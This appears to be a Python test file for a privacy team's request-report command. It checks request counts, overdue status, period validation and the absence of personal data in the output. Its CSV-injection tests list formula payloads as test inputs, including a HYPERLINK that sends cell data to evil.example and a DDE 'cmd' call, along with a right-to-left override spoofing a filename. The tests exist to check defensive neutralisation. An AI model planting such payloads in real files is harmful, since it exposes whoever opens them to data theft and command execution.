"""``oubli report``: a period's requests as the privacy team shows them, from the store alone."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from devkit.pipeline import LocalStore, record
from worker import states
from worker.store.repository import Store, TaskUpdate

NOVEMBER = datetime(2026, 11, 1, tzinfo=UTC)
NOW = datetime(2026, 12, 20, 12, tzinfo=UTC)


def _record(store: Store, name: str, kind: str, requested_at: datetime, systems: dict[str, int]) -> str:
    return record(store, systems, kind=kind, customer_id=f"C-report-{name}", emails=[f"{name}@example.fr"],
                  phones=["+33612345678"], requested_at=requested_at)


def _run(store: Store, request_id: str, at: datetime, events: dict[str, states.Event]) -> None:
    """Claims and finishes the request's tasks at ``at``, as a worker would have then."""
    for task in store.claim_due(now=at, lease_until=at + timedelta(minutes=5), limits=dict.fromkeys(events, 9),
                                room=20):
        if task.request_id == request_id:
            store.finish(task, events[task.system], TaskUpdate(), at)




def test_a_period_report_counts_on_time_late_open_and_outcomes_without_personal_data(tmp_path: Path) -> None:
    local = LocalStore(tmp_path, systems=())
    store = local.store
    systems = {"orders_db": 1, "google_analytics": 1}
    on_time = _record(store, "ontime", "erasure", NOVEMBER + timedelta(days=2), systems)
    _run(store, on_time, NOVEMBER + timedelta(days=4), {"orders_db": states.Confirm("anonymized"),
                                                         "google_analytics": states.Confirm("requested")})
    late = _record(store, "late", "erasure", NOVEMBER + timedelta(days=3), systems)
    _run(store, late, NOVEMBER + timedelta(days=40), {"orders_db": states.Confirm("erased"),
                                                       "google_analytics": states.Confirm("requested")})
    stuck = _record(store, "stuck", "erasure", NOVEMBER + timedelta(days=5), systems)
    _run(store, stuck, NOVEMBER + timedelta(days=6), {
        "orders_db": states.Confirm("erased"),
        "google_analytics": states.Fail("credentials_refused", "GA refused our credentials", retryable=False)})
    export = _record(store, "export", "export", NOVEMBER + timedelta(days=10), {"orders_db": 1})
    _run(store, export, NOVEMBER + timedelta(days=10, hours=2), {"orders_db": states.Confirm("exported")})
    _record(store, "december", "erasure", NOVEMBER + timedelta(days=31), systems)  # outside the period
    store.record_invalid(request_id="bad-1", code="schema_violation", message="bad", raw=b"{}", key=b"C",
                         headers=[], source="t/0/1", now=NOVEMBER + timedelta(days=7))

    def oubli(*args: str) -> str:
        result = local.oubli("report", "--since", "2026-11-01", "--until", "2026-12-01", *args)
        assert result.exit_code == 0, result.output
        return result.output

    data: dict[str, Any] = json.loads(oubli("--format", "json", "--requests"))
    erasure = data["kinds"]["erasure"]
    assert {k: erasure[k] for k in ("received", "completed_on_time", "completed_late", "open")} == {
        "received": 3, "completed_on_time": 1, "completed_late": 1, "open": 1}
    # due_at is one calendar month after requested_at; "stuck" is overdue only as of a later now.
    assert erasure["days_to_complete_median"] == 19.5 and erasure["days_to_complete_max"] == 37.0
    assert erasure["outcomes"] == {"orders_db": {"anonymized": 1, "erased": 2},
                                   "google_analytics": {"requested": 2, "failed": 1}}
    assert data["kinds"]["export"]["completed_on_time"] == 1
    assert data["kinds"]["export"]["outcomes"] == {"orders_db": {"exported": 1}}
    assert data["rejected"] == {"schema_violation": 1}
    by_id = {r["request_id"]: r for r in data["requests"]}
    assert set(by_id) == {on_time, late, stuck, export}
    assert (by_id[on_time]["on_time"], by_id[late]["on_time"], by_id[stuck]["on_time"]) == (True, False, None)
    assert by_id[stuck]["status"] == "action_required" and by_id[stuck]["subject_ref"].startswith("hmac-sha256:")

    rows = list(csv.DictReader(io.StringIO(oubli("--format", "csv"))))
    assert [r["request_id"] for r in rows] == [on_time, late, stuck, export]
    assert rows[2]["systems"] == "google_analytics=failed; orders_db=erased"
    text = oubli()
    assert "erasure: 3 received; 1 completed on time, 1 late; 1 open" in text
    assert "rejected commands: schema_violation 1" in text
    for output in (json.dumps(data), text, oubli("--format", "csv")):
        for personal in ("example.fr", "C-report-", "+33612345678"):
            assert personal not in output


def test_open_requests_past_their_due_date_are_counted_overdue(tmp_path: Path) -> None:
    store = LocalStore(tmp_path, systems=()).store
    _record(store, "old", "erasure", NOVEMBER - timedelta(days=60), {"loyalty": 1})
    report_now = NOVEMBER + timedelta(days=1)
    from worker.compliance import build

    built = build(store.engine, NOVEMBER - timedelta(days=90), NOVEMBER, report_now)
    assert built.kinds["erasure"].open == 1 and built.kinds["erasure"].open_overdue == 1


def test_the_period_must_make_sense(tmp_path: Path) -> None:
    local = LocalStore(tmp_path, systems=())
    backwards = local.oubli("report", "--since", "2026-12-01", "--until", "2026-11-01")
    assert backwards.exit_code != 0 and "must be after --since" in backwards.output
    garbled = local.oubli("report", "--since", "last week", "--until", "2026-11-01")
    assert garbled.exit_code != 0 and "ISO 8601" in garbled.output


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1")


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(tmp_path: Path) -> None:
    """OWASP's CSV injection guidance: a cell starting with = + - @ tab or CR gets a leading quote."""
    local = LocalStore(tmp_path, systems=())
    store = local.store
    ids = [record(store, {"orders_db": 1}, customer_id="C-formula", request_id=formula.replace(" ", "") + f"-{n}",
                  requested_at=NOVEMBER + timedelta(days=1 + n)) for n, formula in enumerate(FORMULAS[:4])]
    for args in (("--format", "csv"), ("--requests",)):
        result = local.oubli("report", "--since", "2026-11-01", "--until", "2026-12-01", *args)
        assert result.exit_code == 0, result.output
        body = result.output[result.output.index("request_id,"):]
        rows = list(csv.DictReader(io.StringIO(body)))
        assert [r["request_id"] for r in rows] == [f"'{i}" for i in ids]
        assert not [r for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_csv_copies_neutralise_formulas_and_the_json_keeps_the_data_as_is() -> None:
    from worker.core.csvcells import spreadsheet_safe
    from worker.export.staging import _csv_lines

    spool = io.BytesIO()
    for n, formula in enumerate(FORMULAS):
        spool.write(json.dumps({"note": formula, "amount": -n - 1, "plain": "ok"}).encode() + b"\n")
    spool.seek(0)
    text = b"".join(_csv_lines(spool, ["note", "amount", "plain"])).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["note"] for r in rows] == [f"'{f}" for f in FORMULAS]
    assert [r["amount"] for r in rows] == [str(-n - 1) for n in range(len(FORMULAS))]  # numbers stay numbers
    assert {r["plain"] for r in rows} == {"ok"}
    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""


def test_the_request_lines_of_the_human_report_escape_a_bidi_override(tmp_path: Path) -> None:
    """``--requests`` in text (the default) is for a person at a terminal, as the summary above it: a request id
    the schema lets through ("rlo-\\u202etxt.exe") showed there as another id. CSV output stays the data itself."""
    local = LocalStore(tmp_path)
    record(local.store, {"alpha": 1}, customer_id="C-report-rlo", request_id="rlo-\u202etxt.exe",
           requested_at=NOVEMBER + timedelta(days=2))
    period = ("report", "--since", "2026-11-01", "--until", "2026-12-01", "--requests")
    human = local.oubli(*period)
    assert human.exit_code == 0, human.output
    assert "\u202e" not in human.output and "rlo-\\u202etxt.exe" in human.output
    machine = local.oubli(*period, "--format", "csv")
    assert [row["request_id"] for row in csv.DictReader(io.StringIO(machine.output))] == ["rlo-\u202etxt.exe"]
